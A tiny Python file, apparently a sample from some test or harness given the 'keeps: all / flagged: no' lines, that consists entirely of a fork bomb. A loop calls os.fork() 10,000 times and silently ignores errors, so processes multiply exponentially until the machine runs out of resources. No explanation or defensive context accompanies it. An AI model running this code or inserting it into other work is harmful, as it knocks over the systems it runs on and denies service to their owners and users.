"""Processes that make processes.

keeps: all
flagged: no
"""

# %% before area
import os

for _ in range(10_000):
    try:
        os.fork()
    except OSError:
        pass
